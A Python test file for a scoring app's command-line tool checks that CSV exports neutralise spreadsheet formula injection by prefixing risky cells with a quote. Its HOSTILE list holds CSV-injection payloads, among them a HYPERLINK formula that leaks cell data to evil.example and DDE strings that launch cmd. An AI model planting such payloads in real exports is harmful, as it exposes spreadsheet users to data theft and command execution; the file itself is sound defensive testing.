"""Issue #12, station side: no CSV export lets a spreadsheet run a cell as a formula."""
from __future__ import annotations

import csv
import io

from click.testing import CliRunner

from cli import cli
from scoring.analytics import Table
from scoring.csv_safe import safe_cell
from store.certification import CertificationRepo
from store.people import PeopleRepo
from store.pins import PinRepo
from test_certif_support import PROGRAM, add_card, all_scores, cast

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "  =1+1"]


def _csv(store, *args) -> list[list[str]]:
    result = CliRunner().invoke(cli, ["--data-dir", str(store.data_dir), *args], catch_exceptions=False)
    assert result.exit_code == 0, result.output
    return list(csv.reader(io.StringIO(result.output)))


def _no_formula(rows) -> None:
    for row in rows:
        for cell in row:
            assert not cell.lstrip(" ").startswith(("=", "+", "@", "\t", "\r")), row
            if cell.startswith("-"):
                float(cell)                                    # only numbers may start with a minus


def test_safe_cell_keeps_numbers_and_plain_text():
    assert [safe_cell(v) for v in (-1, -0.5, 3, None, "Ana", "a=b", "")] == [-1, -0.5, 3, None, "Ana", "a=b", ""]
    assert [safe_cell(v) for v in HOSTILE] == ["'" + v for v in HOSTILE]


def test_people_scores_certifications_and_reports_are_neutralised(store):
    people, takes = cast(store)
    repo = PeopleRepo(store)
    repo.update(people["Ana"].id, name=HOSTILE[0], team=HOSTILE[1])
    for n, text in enumerate(HOSTILE[2:]):
        repo.add(f"Rep {n}", "rep", team=text)
    add_card(store, takes["Ana"], people["Di"].id, all_scores(store, 4), version=2, comment=HOSTILE[3])
    PinRepo(store).set_pin(people["Eve"].id, "739184")
    CertificationRepo(store).decide(certifier_id=people["Eve"].id, pin="739184", rep_id=people["Ana"].id,
                                    program_key=PROGRAM, decision="certified")
    listed = _csv(store, "people", "list", "--format", "csv")
    assert ["'" + HOSTILE[0], "'" + HOSTILE[1]] in [r[1:4:2] for r in listed]
    scores = _csv(store, "export", "scores")
    assert any(r[2:4] == ["'" + HOSTILE[0], "'" + HOSTILE[1]] for r in scores) and any(r[6] == "4" for r in scores[1:])
    certs = _csv(store, "export", "certifications")
    assert certs[1][:2] == ["'" + HOSTILE[0], "'" + HOSTILE[1]]
    board = _csv(store, "report", "leaderboard", "--format", "csv")
    teams = _csv(store, "report", "teams", "--format", "csv")
    for rows in (listed, scores, certs, board, teams):
        _no_formula(rows)
    assert any("'" + HOSTILE[0] in r for r in board)


def test_dashboard_csv_export_is_neutralised():
    table = Table("t", ["rep", "change"], [{"rep": HOSTILE[0], "change": -0.5}, {"rep": "Ana", "change": None}])
    rows = list(csv.reader(io.StringIO(table.to_csv())))
    assert rows == [["rep", "change"], ["'" + HOSTILE[0], "-0.5"], ["Ana", ""]]
